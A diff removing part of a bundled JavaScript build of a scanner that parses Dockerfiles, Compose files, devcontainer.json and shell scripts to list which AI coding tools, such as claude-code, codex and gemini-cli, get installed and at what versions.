-                    const given = buildArgs.get(name);
-                    if (given)
-                        value = given;
-                    else if (eq !== -1) {
-                        const parts = w.parts.slice();
-                        const first = parts[0];
-                        if (first && first.k === 'lit')
-                            parts[0] = { k: 'lit', text: first.text.slice(eq + 1) };
-                        value = expandParts(parts, lookup);
-                    }
-                    else
-                        value = (stage ? globals.get(name) : undefined) ?? { text: '${' + name + '}', unknown: true };
-                    vars.set(name, value);
-                }
-                break;
-            }
-            case 'ENV': {
-                const words = wordsOf(text, argsStart, end, escape);
-                if (words.length > 0 && !words[0].raw.includes('=')) {
-                    // Legacy `ENV NAME value with spaces`.
-                    const rest = text.slice(words[1]?.start ?? end, end).trim();
-                    vars.set(words[0].raw, expandParts(parseShellWord(rest), lookup));
-                    break;
-                }
-                for (const w of words) {
-                    const eq = w.raw.indexOf('=');
-                    if (eq <= 0)
-                        continue;
-                    const first = w.parts[0];
-                    if (!first || first.k !== 'lit')
-                        continue;
-                    const parts = [{ k: 'lit', text: first.text.slice(eq + 1) }, ...w.parts.slice(1)];
-                    vars.set(w.raw.slice(0, eq), expandParts(parts, lookup));
-                }
-                break;
-            }
-            case 'RUN':
-            case 'ONBUILD': {
-                scanner.env.clear();
-                for (const [k, v] of vars)
-                    scanner.env.set(k, v);
-                let body = argsStart;
-                if (keyword === 'ONBUILD') {
-                    const m = /^\s*RUN\b/i.exec(text.slice(body, end));
-                    if (!m)
-                        break;
-                    body += m[0].length;
-                }
-                // RUN flags: --mount=…, --network=…, --security=…
-                for (let m = /^\s*--[a-z-]+=\S*/i.exec(text.slice(body, end)); m; m = /^\s*--[a-z-]+=\S*/i.exec(text.slice(body, end)))
-                    body += m[0].length;
-                const rest = text.slice(body, end);
-                const trimmed = rest.trimStart();
-                if (trimmed.startsWith('[')) {
-                    const argv = execForm(trimmed);
-                    if (argv) {
-                        const script = argv.map(shellQuote).join(' ');
-                        scanner.scan(script, () => locate(body), 0, script.length);
-                        break;
-                    }
-                }
-                const segment = /<<-?\s*["']?[A-Za-z_]/.test(rest) ? rest : joinContinuations(rest, escape);
-                scanner.scan(segment, (o) => locate(o + body));
-                break;
-            }
-            case 'ADD': {
-                const words = wordsOf(text, argsStart, end, escape).filter((w) => !w.raw.startsWith('--'));
-                if (words.length < 2)
-                    break;
-                const dest = expandParts(words[words.length - 1].parts, lookup).text;
-                for (const w of words.slice(0, -1)) {
-                    const src = expandParts(w.parts, lookup);
-                    if (!/^https?:\/\//i.test(src.text))
-                        continue;
-                    const file = src.text.replace(/[?#].*$/, '');
-                    const target = dest.endsWith('/') ? dest + file.slice(file.lastIndexOf('/') + 1) : dest;
-                    const rec = { url: src.text, line: locate(w.start), used: false };
-                    scanner.downloads.set(target, rec);
-                    scanner.downloads.set(target.slice(target.lastIndexOf('/') + 1), rec);
-                }
-                break;
-            }
-            default:
-                break;
-        }
-    }
-    scanner.finish();
-    for (const f of scanner.findings)
-        components.push(findingComponent(f, file, DOCKERFILE_SOURCE));
-    for (const p of scanner.problems)
-        errors.push(problemError(p, file, 'RUN'));
-    return { components, errors };
-}
-/** The words of `text[start, end)` (ARG and ENV arguments) read with shell quoting. */
-function wordsOf(text, start, end, escape = '\\') {
-    const joined = joinContinuations(text.slice(start, end), escape);
-    return parseShell(joined)
-        .pipelines.flatMap((p) => p.commands.flatMap((c) => c.words))
-        .map((w) => ({ ...w, start: w.start + start }));
-}
-function parseShellWord(text) {
-    const w = parseShell(text).pipelines[0]?.commands[0]?.words;
-    if (!w || w.length === 0)
-        return [{ k: 'lit', text }];
-    return w.length === 1 ? w[0].parts : [{ k: 'lit', text }];
-}
-/**
- * Joins a Dockerfile instruction's continuation lines the way the builder does: the escape
- * character and newline go, and comment or blank lines inside the continuation are dropped.
- * Offsets are kept (removed characters become spaces) so lines can still be located.
- */
-function joinContinuations(text, escape) {
-    const chars = text.split('');
-    const end = text.length;
-    let i = 0;
-    let continued = false;
-    while (i < end) {
-        let nl = text.indexOf('\n', i);
-        if (nl === -1 || nl > end)
-            nl = end;
-        const line = text.slice(i, nl);
-        if (continued && /^\s*(#.*)?\r?$/.test(line)) {
-            for (let k = i; k <= nl && k < end; k++)
-                chars[k] = ' ';
-            i = nl + 1;
-            continue;
-        }
-        const trimmedEnd = line.replace(/[ \t\r]+$/, '');
-        if (trimmedEnd.endsWith(escape) && !trimmedEnd.endsWith(escape + escape)) {
-            const at = i + trimmedEnd.length - 1;
-            for (let k = at; k <= nl && k < end; k++)
-                chars[k] = ' ';
-            continued = true;
-        }
-        else {
-            continued = false;
-        }
-        i = nl + 1;
-    }
-    return chars.join('');
-}
-function execForm(text) {
-    try {
-        const v = JSON.parse(text.replace(/\\\r?\n/g, ''));
-        return Array.isArray(v) && v.every((x) => typeof x === 'string') ? v : null;
-    }
-    catch {
-        return null;
-    }
-}
-function shellQuote(s) {
-    return /^[\w@%+=:,./-]+$/.test(s) ? s : "'" + s.replace(/'/g, "'\\''") + "'";
-}
-const dockerfileDetector = {
-    id: DOCKERFILE_SOURCE,
-    matches: isDockerfilePath,
-    detect: ({ path, text }) => scanDockerfile(text, path),
-};
-
-;// CONCATENATED MODULE: ./src/detectors/devcontainer/yaml-nodes.ts
-// Small helpers over `yaml` documents with source positions, shared by the compose and workflow
-// detectors. Aliases are followed by reference (never expanded), so alias bombs stay cheap.
-
-function parseYaml(text, file, maxDepth) {
-    const lines = new dist/* LineCounter */.HN();
-    const errors = [];
-    const depth = flowDepth(text);
-    if (depth > maxDepth) {
-        errors.push({ file, message: `nesting deeper than ${maxDepth} levels` });
-        return { doc: (0,dist/* parseDocument */.Tp)('', { lineCounter: new dist/* LineCounter */.HN() }), lines, errors };
-    }
-    const doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter: lines, uniqueKeys: false, prettyErrors: false });
-    for (const e of doc.errors.slice(0, 10)) {
-        const pos = lines.linePos(e.pos[0]);
-        errors.push({
-            file,
-            line: pos.line,
-            column: pos.col,
-            message: `invalid YAML: ${e.message.split('\n')[0]}`,
-        });
-    }
-    return { doc, lines, errors };
-}
-/**
- * Deepest nesting of flow collections (`[`, `{`) and of block indentation, a cheap bound before
- * parsing. Brackets inside quoted scalars, comments and block scalars (`run: |`) are text, not
- * nesting, and are not counted.
- */
-function flowDepth(text) {
-    let depth = 0;
-    let max = 0;
-    let indentMax = 0;
-    let blockIndent = -1;
-    let start = 0;
-    while (start <= text.length) {
-        let end = text.indexOf('\n', start);
-        if (end === -1)
-            end = text.length;
-        let indent = 0;
-        while (start + indent < end && text[start + indent] === ' ')
-            indent++;
-        const blank = start + indent >= end || text[start + indent] === '\r';
-        if (blockIndent >= 0 && (blank || indent > blockIndent)) {
-            start = end + 1;
-            continue;
-        }
-        blockIndent = -1;
-        let quote = '';
-        let dashes = 0;
-        for (let i = start + indent; i < end; i++) {
-            const c = text[i];
-            if (quote) {
-                if (c === quote)
-                    quote = '';
-                else if (c === '\\' && quote === '"')
-                    i++;
-                continue;
-            }
-            if (c === '"' || c === "'") {
-                const prev = i > start ? text[i - 1] : ' ';
-                if (prev === ' ' ||
-                    prev === '\t' ||
-                    prev === '[' ||
-                    prev === '{' ||
-                    prev === ',' ||
-                    prev === ':' ||
-                    prev === '-')
-                    quote = c;
-            }
-            else if (c === '#' && (i === start || text[i - 1] === ' ' || text[i - 1] === '\t'))
-                break;
-            else if (c === '[' || c === '{') {
-                depth++;
-                if (depth > max)
-                    max = depth;
-            }
-            else if ((c === ']' || c === '}') && depth > 0)
-                depth--;
-            else if (c === '-' && depth === 0 && i === start + indent + dashes * 2 && text[i + 1] === ' ')
-                dashes++;
-        }
-        const level = indent / 2 + dashes;
-        if (level > indentMax)
-            indentMax = level;
-        // A block scalar header (`key: |`, `- >-`): the more-indented lines that follow are its text.
-        if (/(^|[:\s-])[|>][-+0-9]*\s*(#.*)?\r?$/.test(text.slice(start + indent, end)) && depth === 0)
-            blockIndent = indent;
-        start = end + 1;
-    }
-    return Math.max(max, indentMax);
-}
-function resolve(doc, node) {
-    return (0,dist/* isAlias */.Vj)(node) ? node.resolve(doc) : node;
-}
-function get(doc, map, key) {
-    const m = resolve(doc, map);
-    if (!(0,dist/* isMap */.jh)(m))
-        return undefined;
-    const p = pair(m, key);
-    return p ? resolve(doc, p.value) : undefined;
-}
-function pair(map, key) {
-    return map.items.find((p) => (0,dist/* isScalar */.jn)(p.key) && String(p.key.value) === key);
-}
-function pairs(doc, map) {
-    const m = resolve(doc, map);
-    if (!(0,dist/* isMap */.jh)(m))
-        return [];
-    const out = [];
-    for (const p of m.items) {
-        if ((0,dist/* isScalar */.jn)(p.key))
-            out.push({ key: String(p.key.value), keyNode: p.key, value: resolve(doc, p.value) });
-    }
-    return out;
-}
-function items(doc, seq) {
-    const s = resolve(doc, seq);
-    return (0,dist/* isSeq */.oP)(s) ? s.items.map((i) => resolve(doc, i)) : [];
-}
-function str(node) {
-    if (!(0,dist/* isScalar */.jn)(node))
-        return undefined;
-    const v = node.value;
-    return typeof v === 'string' ? v : typeof v === 'number' || typeof v === 'boolean' ? String(v) : undefined;
-}
-function lineOf(lines, node) {
-    const range = node?.range;
-    return range ? lines.linePos(range[0]).line : 1;
-}
-/**
- * Maps an offset inside a scalar's value to a line of the file. Literal block scalars (`|`) keep
- * one value line per source line after their header; other scalars are located at their start.
- */
-function scalarLocator(lines, node) {
-    const start = lineOf(lines, node);
-    const type = (0,dist/* isScalar */.jn)(node) ? node.type : undefined;
-    if (type === 'BLOCK_LITERAL' || type === 'BLOCK_FOLDED') {
-        return (offset, value) => {
-            let n = 0;
-            for (let i = value.indexOf('\n'); i !== -1 && i < offset; i = value.indexOf('\n', i + 1))
-                n++;
-            return start + 1 + n;
-        };
-    }
-    return () => start;
-}
-
-;// CONCATENATED MODULE: ./src/detectors/compose.ts
-// Docker Compose files: each service's `build` (context, dockerfile, args as a map or a list,
-// dockerfile_inline) leads to a Dockerfile, scanned with the build args applied; values are
-// interpolated from the project's `.env` the way Compose does (`${V}`, `${V:-d}`, `${V:?e}`, `$$`).
-
-
-
-
-const COMPOSE_SOURCE = 'compose';
-function isComposePath(path) {
-    const name = path.slice(path.lastIndexOf('/') + 1);
-    return /^(docker-)?compose(\.[^/]+)?\.ya?ml$/i.test(name);
-}
-/** Joins a relative path onto a folder of the scanned tree; null for absolute paths and URLs. */
-function joinRelative(dir, rel) {
-    if (rel.startsWith('/') || /^[a-z][a-z0-9+.-]*:\/\//i.test(rel) || rel.includes('${'))
-        return null;
-    const j = external_node_path_.posix.normalize(external_node_path_.posix.join(dir || '.', rel));
-    return j === '.' ? '' : j.replace(/^\.\//, '');
-}
-function dirOf(path) {
-    const i = path.lastIndexOf('/');
-    return i === -1 ? '' : path.slice(0, i);
-}
-/** Reads a `.env` file: `KEY=value`, `export KEY=value`, quotes, comments. */
-function parseDotEnv(text) {
-    const env = new Map();
-    for (const raw of text.split('\n')) {
-        const line = raw.replace(/\r$/, '');
-        const m = /^\s*(?:export\s+)?([A-Za-z_][A-Za-z0-9_.-]*)\s*=\s*(.*)$/.exec(line);
-        if (!m)
-            continue;
-        let v = m[2];
-        if (/^"/.test(v))
-            v = (/^"((?:[^"\\]|\\.)*)"/.exec(v)?.[1] ?? v.slice(1))
-                .replace(/\\(["\\$])/g, '$1')
-                .replace(/\\n/g, '\n');
-        else if (/^'/.test(v))
-            v = /^'([^']*)'/.exec(v)?.[1] ?? v.slice(1);
-        else
-            v = v.replace(/\s+#.*$/, '').trim();
-        env.set(m[1], v);
-    }
-    return env;
-}
-/** Compose variable interpolation. Unset variables without a default are unknown. */
-function interpolate(text, env, depth = 0) {
-    let out = '';
-    let unknown = false;
-    let i = 0;
-    while (i < text.length) {
-        const c = text[i];
-        if (c !== '$') {
-            out += c;
-            i++;
-            continue;
-        }
-        const n = text[i + 1];
-        if (n === '$') {
-            out += '$';
-            i += 2;
-            continue;
-        }
-        if (n === '{') {
-            let depthB = 1;
-            let j = i + 2;
-            while (j < text.length && depthB > 0) {
-                if (text[j] === '{')
-                    depthB++;
-                else if (text[j] === '}')
-                    depthB--;
-                j++;
-            }
-            const raw = text.slice(i, j);
-            const inner = text.slice(i + 2, j - 1);
-            const m = /^([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-?+])([\s\S]*))?$/.exec(inner);
-            i = j;
-            if (!m || depth > 8) {
-                out += raw;
-                unknown = true;
-                continue;
-            }
-            const v = env.get(m[1]);
-            const op = m[2] ?? '';
-            const arg = m[3] ?? '';
-            if (op === ':-' || op === '-') {
-                const useDefault = v === undefined || (op === ':-' && v === '');
-                if (!useDefault)
-                    out += v;
-                else {
-                    const d = interpolate(arg, env, depth + 1);
-                    out += d.text;
-                    if (d.unknown)
-                        unknown = true;
-                }
-            }
-            else if (op === ':+' || op === '+') {
-                const useAlt = v !== undefined && (op === '+' || v !== '');
-                if (useAlt) {
-                    const d = interpolate(arg, env, depth + 1);
-                    out += d.text;
-                    if (d.unknown)
-                        unknown = true;
-                }
-            }
-            else if (v !== undefined)
-                out += v;
-            else {
-                out += raw;
-                unknown = true;
-            }
-            continue;
-        }
-        const m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(text.slice(i + 1, i + 257));
-        if (m) {
-            const v = env.get(m[0]);
-            if (v !== undefined)
-                out += v;
-            else {
-                out += '$' + m[0];
-                unknown = true;
-            }
-            i += 1 + m[0].length;
-            continue;
-        }
-        out += '$';
-        i++;
-    }
-    return { text: out, unknown };
-}
-/**
- * Scans the Dockerfiles built by the services of one compose file (all services, or only
- * `service`), with their build args. Components sit in the Dockerfiles; a `dockerfile_inline`
- * is located in the compose file.
- */
-async function scanCompose(path, text, input, service) {
-    const components = [];
-    const parsed = parseYaml(text, path, input.limits.maxDepth);
-    const errors = [...parsed.errors];
-    const { doc, lines } = parsed;
-    const dir = dirOf(path);
-    const dotEnv = await input.readFile(dir ? `${dir}/.env` : '.env');
-    const env = dotEnv === null ? new Map() : parseDotEnv(dotEnv);
-    const inter = (s) => interpolate(s, env);
-    for (const svc of pairs(doc, get(doc, doc.contents, 'services'))) {
-        if (service !== undefined && svc.key !== service)
-            continue;
-        let context = '.';
-        let dockerfile = 'Dockerfile';
-        let inline;
-        const args = new Map();
-        {
-            const b = get(doc, svc.value, 'build');
-            if (b === undefined)
-                continue;
-            if ((0,dist/* isScalar */.jn)(b))
-                context = inter(str(b) ?? '.').text;
-            else {
-                const c = str(get(doc, b, 'context'));
-                if (c !== undefined)
-                    context = inter(c).text;
-                const d = str(get(doc, b, 'dockerfile'));
-                if (d !== undefined)
-                    dockerfile = inter(d).text;
-                inline = get(doc, b, 'dockerfile_inline');
-                const a = get(doc, b, 'args');
-                for (const p of pairs(doc, a)) {
-                    const v = str(p.value);
-                    if (v !== undefined)
-                        args.set(p.key, inter(v));
-                    else if (env.has(p.key))
-                        args.set(p.key, { text: env.get(p.key), unknown: false });
-                }
-                for (const item of items(doc, a)) {
-                    const s = str(item);
-                    if (s === undefined)
-                        continue;
-                    const eq = s.indexOf('=');
-                    if (eq > 0)
-                        args.set(s.slice(0, eq), inter(s.slice(eq + 1)));
-                    else if (env.has(s))
-                        args.set(s, { text: env.get(s), unknown: false });
-                }
-            }
-        }
-        if (inline !== undefined && str(inline) !== undefined) {
-            const firstLine = lineOf(lines, inline) + ((0,dist/* isScalar */.jn)(inline) && inline.type?.startsWith('BLOCK') ? 1 : 0);
-            const r = scanDockerfile(str(inline), path, { buildArgs: args, firstLine });
-            components.push(...r.components);
-            errors.push(...r.errors);
-            continue;
-        }
-        const ctx = joinRelative(dir, context);
-        if (ctx === null)
-            continue;
-        const df = joinRelative(ctx, dockerfile);
-        if (df === null)
-            continue;
-        const dockerText = await input.readFile(df);
-        if (dockerText === null)
-            continue;
-        const r = scanDockerfile(dockerText, df, { buildArgs: args });
-        components.push(...r.components);
-        // A Dockerfile under a standard name reports its own errors when scanned on its own.
-        if (!isDockerfilePath(df))
-            errors.push(...r.errors);
-    }
-    return { components, errors };
-}
-const composeDetector = {
-    id: COMPOSE_SOURCE,
-    matches: isComposePath,
-    detect: (input) => scanCompose(input.path, input.text, input),
-};
-
-// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
-var main = __nccwpck_require__(99547);
-;// CONCATENATED MODULE: ./src/detectors/devcontainer/jsonc.ts
-// JSONC parsing with offsets (comments and trailing commas), a depth bound checked with the
-// iterative scanner before building the tree, and located errors.
-
-// jsonc-parser's SyntaxKind is an ambient const enum; its values, spelled out.
-const OPEN_BRACE = 1;
-const CLOSE_BRACE = 2;
-const OPEN_BRACKET = 3;
-const CLOSE_BRACKET = 4;
-const EOF = 17;
-function parseJsonc(text, file, lines, maxDepth) {
-    const scanner = (0,main.createScanner)(text, true);
-    let depth = 0;
-    for (let k = scanner.scan(); k !== EOF; k = scanner.scan()) {
-        if (k === OPEN_BRACE || k === OPEN_BRACKET) {
-            if (++depth > maxDepth) {
-                const at = scanner.getTokenOffset();
-                return {
-                    root: undefined,
-                    errors: [
-                        {
-                            file,
-                            line: lines.line(at),
-                            column: lines.column(at),
-                            message: `nesting deeper than ${maxDepth} levels`,
-                        },
-                    ],
-                };
-            }
-        }
-        else if (k === CLOSE_BRACE || k === CLOSE_BRACKET)
-            depth--;
-    }
-    const parseErrors = [];
-    const root = (0,main.parseTree)(text, parseErrors, {
-        allowTrailingComma: true,
-        disallowComments: false,
-        allowEmptyContent: true,
-    });
-    const errors = parseErrors.slice(0, 1).map((e) => ({
-        file,
-        line: lines.line(e.offset),
-        column: lines.column(e.offset),
-        message: `invalid JSONC: ${(0,main.printParseErrorCode)(e.error)}`,
-    }));
-    return { root, errors };
-}
-function at(root, path) {
-    return root ? (0,main.findNodeAtLocation)(root, path) : undefined;
-}
-/** The properties of an object node: key, key node, value node. */
-function props(node) {
-    if (!node || node.type !== 'object' || !node.children)
-        return [];
-    const out = [];
-    for (const p of node.children) {
-        const k = p.children?.[0];
-        const v = p.children?.[1];
-        if (k && v && typeof k.value === 'string')
-            out.push({ key: k.value, keyNode: k, value: v });
-    }
-    return out;
-}
-function strings(node) {
-    if (!node || node.type !== 'array' || !node.children)
-        return [];
-    return node.children.filter((c) => c.type === 'string');
-}
-function strValue(node) {
-    return node && node.type === 'string' && typeof node.value === 'string' ? node.value : undefined;
-}
-/** A scalar option value as text (`"1.2.3"`, `true`, `3`). */
-function scalarText(node) {
-    if (!node)
-        return undefined;
-    if (node.type === 'string' || node.type === 'number' || node.type === 'boolean')
-        return String(node.value);
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./src/detectors/devcontainer/known-features.ts
-// Dev container features that install AI coding tools: which option carries the tool's version,
-// its default (from each feature's devcontainer-feature.json), how an option value maps to a
-// version, and the npm/PyPI package the feature installs where that is how it installs.
-const semverish = (v) => {
-    const m = /^v?(\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?)$/.exec(v);
-    return m ? m[1] : null;
-};
-const releaseTag = (v) => {
-    const m = /^(?:rust-)?v?(\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?)$/.exec(v);
-    return m ? m[1] : null;
-};
-const extra = (ns) => [
-    // devcontainers-extra (formerly devcontainers-contrib): option `version`, default `latest`;
-    // claude-code runs the native installer, opencode and goose download GitHub releases.
-    {
-        id: `ghcr.io/${ns}/features/claude-code`,
-        tool: 'claude-code',
-        versionOption: 'version',
-        defaultVersion: 'latest',
-    },
-    {
-        id: `ghcr.io/${ns}/features/opencode`,
-        tool: 'opencode',
-        versionOption: 'version',
-        defaultVersion: 'latest',
-    },
-    {
-        id: `ghcr.io/${ns}/features/codename-goose-cli`,
-        tool: 'goose',
-        versionOption: 'version',
-        defaultVersion: 'stable',
-    },
-];
-const knownFeatures = [
-    // anthropics/devcontainer-features claude-code: no options, always `npm install -g
-    // @anthropic-ai/claude-code` (latest).
-    {
-        id: 'ghcr.io/anthropics/devcontainer-features/claude-code',
-        tool: 'claude-code',
-        defaultVersion: 'latest',
-        npm: '@anthropic-ai/claude-code',
-    },
-    ...extra('devcontainers-extra'),
-    ...extra('devcontainers-contrib'),
-    // devcontainers/features copilot-cli: option `version` (latest | prerelease | X.Y.Z).
-    {
-        id: 'ghcr.io/devcontainers/features/copilot-cli',
-        tool: 'copilot-cli',
-        versionOption: 'version',
-        defaultVersion: 'latest',
-    },
-    // sachitv codex: option `release_tag` (a GitHub release tag such as `rust-v0.58.0`), default latest.
-    {
-        id: 'ghcr.io/sachitv/devcontainer-features/codex',
-        tool: 'codex',
-        versionOption: 'release_tag',
-        defaultVersion: 'latest',
-        toVersion: releaseTag,
-    },
-    // jsburckhardt codex: no options, always the latest release.
-    { id: 'ghcr.io/jsburckhardt/devcontainer-features/codex', tool: 'codex', defaultVersion: 'latest' },
-    // stu-bell gemini-cli: option `version` (latest | nightly | preview | X.Y.Z), npm install.
-    {
-        id: 'ghcr.io/stu-bell/devcontainer-features/gemini-cli',
-        tool: 'gemini-cli',
-        versionOption: 'version',
-        defaultVersion: 'latest',
-        npm: '@google/gemini-cli',
-    },
-];
-const known_features_byId = new Map(knownFeatures.map((f) => [f.id, f]));
-function knownFeature(id) {
-    return known_features_byId.get(id);
-}
-function featureVersion(f, value) {
-    return (f.toVersion ?? semverish)(value);
-}
-/**
- * Last path segments of feature ids that name an AI coding tool unambiguously. Bare words that
- * also name unrelated tools (`goose` the database migration tool, `amp` of Amplitude) are left
- * out on purpose.
- */
-const AI_TOOL_IDS = new Set([
-    'claude-code',
-    'claude-code-cli',
-    'claude',
-    'codex',
-    'codex-cli',
-    'openai-codex',
-    'gemini-cli',
-    'google-gemini-cli',
-    'copilot-cli',
-    'github-copilot-cli',
-    'opencode',
-    'goose-cli',
-    'codename-goose-cli',
-    'block-goose',
-    'aider',
-    'aider-chat',
-    'cursor-cli',
-    'cursor-agent',
-    'qwen-code',
-    'qwen-code-cli',
-    'kimi-cli',
-    'amp-cli',
-    'sourcegraph-amp',
-    'crush',
-    'auggie',
-    'cline',
-    'cline-cli',
-    'kilocode',
-    'kilo-code',
-    'droid',
-    'factory-droid',
-    'junie',
-    'codebuddy',
-    'plandex',
-    'openhands',
-]);
-function looksLikeAiTool(id) {
-    return AI_TOOL_IDS.has(id.slice(id.lastIndexOf('/') + 1));
-}
-/** An option name that says it carries a version. */
-function isVersionOption(name) {
-    return /version|release|tag/i.test(name);
-}
-const semverLike = semverish;
-
-;// CONCATENATED MODULE: ./src/detectors/shell-script.ts
-// Shell scripts (`*.sh`, `*.bash`): installs and runs of tools, located at their lines.
-
-
-
-const SHELL_SCRIPT_SOURCE = 'shell-script';
-function isShellScriptPath(path) {
-    return /\.(sh|bash)$/i.test(path);
-}
-function scanShellScript(path, text) {
-    const lines = new LineIndex(text);
-    const scanner = new CommandScanner();
-    scanner.scan(text, (o) => lines.line(o));
-    scanner.finish();
-    const components = scanner.findings.map((f) => findingComponent(f, path, SHELL_SCRIPT_SOURCE));
-    return { components, errors: scanner.problems.map((p) => problemError(p, path)) };
-}
-const shellScriptDetector = {
-    id: SHELL_SCRIPT_SOURCE,
-    matches: isShellScriptPath,
-    detect: ({ path, text }) => scanShellScript(path, text),
-};
-
-;// CONCATENATED MODULE: ./src/detectors/devcontainer-json.ts
-
-
-
-
-
-
-
-
-
-const DEVCONTAINER_SOURCE = 'devcontainer.json';
-function isDevcontainerPath(path) {
-    const name = path.slice(path.lastIndexOf('/') + 1);
-    return name === 'devcontainer.json' || name === '.devcontainer.json';
-}
-const LIFECYCLE = [
-    'initializeCommand',
-    'onCreateCommand',
-    'updateContentCommand',
-    'postCreateCommand',
-    'postStartCommand',
-    'postAttachCommand',
-];
-/** The feature reference split into its component name and kind. */
-function featureRef(key) {
-    if (/^\.{1,2}\//.test(key))
-        return { name: key, kind: 'file' };
-    if (/^https?:\/\//i.test(key))
-        return { name: key.replace(/^https?:\/\//i, ''), kind: 'tarball' };
-    let name = key;
-    const digest = name.indexOf('@');
-    if (digest !== -1)
-        name = name.slice(0, digest);
-    else {
-        const colon = name.lastIndexOf(':');
-        if (colon > name.lastIndexOf('/'))
-            name = name.slice(0, colon);
-    }
-    return { name: name.toLowerCase(), kind: 'registry' };
-}
-/** The version a feature's option value stands for: exact, or null with the value as the spec. */
-function versionOf(value, toVersion) {
-    if (value.includes('${'))
-        return { version: null, spec: value };
-    const v = toVersion(value);
-    return v ? { version: v } : { version: null, spec: value };
-}
-async function scanDevcontainer(input) {
-    const { path, text } = input;
-    const lines = new LineIndex(text);
-    const components = [];
-    const parsed = parseJsonc(text, path, lines, input.limits.maxDepth);
-    const errors = [...parsed.errors];
-    const root = parsed.root;
-    if (!root || root.type !== 'object') {
-        if (root && errors.length === 0)
-            errors.push({ file: path, line: 1, message: 'devcontainer.json is not a JSON object' });
-        return { components, errors };
-    }
-    const dir = dirOf(path);
-    const lineOf = (n) => lines.line(n.offset);
-    // Features.
-    for (const f of props(at(root, ['features']))) {
-        const ref = featureRef(f.key);
-        const options = f.value.type === 'object' ? props(f.value) : [];
-        const legacyVersion = f.value.type === 'string' ? strValue(f.value) : undefined;
-        const known = knownFeature(ref.name);
-        let version = null;
-        let spec;
-        if (known) {
-            const opt = known.versionOption ? options.find((o) => o.key === known.versionOption) : undefined;
-            const value = (opt ? scalarText(opt.value) : undefined) ?? legacyVersion ?? known.defaultVersion;
-            ({ version, spec } = versionOf(value, (v) => featureVersion(known, v)));
-        }
-        else {
-            const ai = looksLikeAiTool(ref.name);
-            const opt = options.find((o) => (ai ? isVersionOption(o.key) : o.key === 'version'));
-            const value = (opt ? scalarText(opt.value) : undefined) ?? legacyVersion;
-            if (value !== undefined) {
-                ({ version, spec } = versionOf(value, ai ? (v) => semverLike(v.replace(/^[a-z]+-(?=v?\d)/i, '')) : () => null));
-            }
-        }
-        const line = lineOf(f.keyNode);
-        components.push(makeComponent({
-            ecosystem: 'devcontainer-feature',
-            name: ref.name,
-            version,
-            ...(version === null && spec !== undefined ? { spec } : {}),
-            location: { file: path, line },
-            source: DEVCONTAINER_SOURCE,
-            sourceKind: ref.kind,
-            resolved: f.key,
-        }));
-        if (known?.npm || known?.pypi) {
-            components.push(makeComponent({
-                ecosystem: known.npm ? 'npm' : 'pypi',
-                name: (known.npm ?? known.pypi),
-                version,
-                ...(version === null && spec !== undefined ? { spec } : {}),
-                location: { file: path, line },
-                source: DEVCONTAINER_SOURCE,
-                sourceKind: 'registry',
-            }));
-        }
-        if (ref.kind === 'file') {
-            // A local feature: its install.sh runs with the options as upper-case variables.
-            const folder = joinRelative(dir, f.key);
-            if (folder !== null) {
-                const env = new Map();
-                for (const o of options) {
-                    const v = scalarText(o.value);
-                    if (v !== undefined)
-                        env.set(o.key.toUpperCase().replace(/[^A-Z0-9_]/g, '_'), { text: v, unknown: v.includes('${') });
-                }
-                await scanScriptFile(input, `${folder ? folder + '/' : ''}install.sh`, components, errors, env, new Set());
-            }
-        }
-    }
-    // Lifecycle commands, with the container's and the remote environment.
-    const lifecycleEnv = new Map();
-    for (const key of ['containerEnv', 'remoteEnv']) {
-        for (const e of props(at(root, [key]))) {
-            const v = scalarText(e.value);
-            if (v !== undefined)
-                lifecycleEnv.set(e.key, { text: v, unknown: v.includes('${') });
-        }
-    }
-    const scanner = new CommandScanner(new Map(lifecycleEnv));
-    for (const key of LIFECYCLE) {
-        const node = at(root, [key]);
-        if (!node)
-            continue;
-        const commands = node.type === 'object' ? props(node).map((p) => p.value) : [node];
-        for (const c of commands) {
-            if (c.type === 'string') {
-                const s = strValue(c) ?? '';
-                scanner.scan(s, () => lineOf(c));
-            }
-            else if (c.type === 'array') {
-                const argv = strings(c).map((n) => strValue(n) ?? '');
-                const script = argv.map(shellQuote).join(' ');
-                scanner.scan(script, () => lineOf(c));
-            }
-        }
-    }
-    scanner.finish();
-    for (const f of scanner.findings)
-        components.push(findingComponent(f, path, DEVCONTAINER_SOURCE));
-    for (const p of scanner.problems)
-        errors.push(problemError(p, path, 'lifecycle command'));
-    const workspace = workspaceRoot(path);
-    const visited = new Set();
-    for (const run of scanner.scriptRuns) {
-        const rel = run.path.replace(/^\$\{(containerWorkspaceFolder|localWorkspaceFolder)\}\/?/, '');
-        for (const base of [workspace, dir]) {
-            const p = joinRelative(base, rel);
-            if (p !== null && (await scanScriptFile(input, p, components, errors, new Map(lifecycleEnv), visited)))
-                break;
-        }
-    }
-    // Build: the Dockerfile with the build args, or the compose service's build.
-    const build = at(root, ['build']);
-    const dockerfile = strValue(at(build, ['dockerfile'])) ??
-        strValue(at(root, ['dockerFile'])) ??
-        strValue(at(build, ['dockerFile']));
-    if (dockerfile !== undefined) {
-        const args = new Map();
-        for (const a of props(at(build, ['args']))) {
-            const v = scalarText(a.value);
-            if (v !== undefined)
-                args.set(a.key, { text: v, unknown: v.includes('${') });
-        }
-        const df = joinRelative(dir, dockerfile);
-        const dockerText = df === null ? null : await input.readFile(df);
-        if (df !== null && dockerText !== null) {
-            const r = scanDockerfile(dockerText, df, { buildArgs: args });
-            components.push(...r.components);
-            if (!isDockerfilePath(df))
-                errors.push(...r.errors);
-        }
-    }
-    const composeNode = at(root, ['dockerComposeFile']);
-    const composeFiles = composeNode?.type === 'array'
-        ? strings(composeNode).map((n) => strValue(n) ?? '')
-        : [strValue(composeNode)];
-    const service = strValue(at(root, ['service']));
-    for (const cf of composeFiles) {
-        if (!cf)
-            continue;
-        const p = joinRelative(dir, cf);
-        const composeText = p === null ? null : await input.readFile(p);
-        if (p === null || composeText === null)
-            continue;
-        const r = await scanCompose(p, composeText, input, service);
-        components.push(...r.components);
-    }
-    // VS Code extensions (and the legacy top-level `extensions`).
-    for (const list of [at(root, ['customizations', 'vscode', 'extensions']), at(root, ['extensions'])]) {
-        for (const n of strings(list)) {
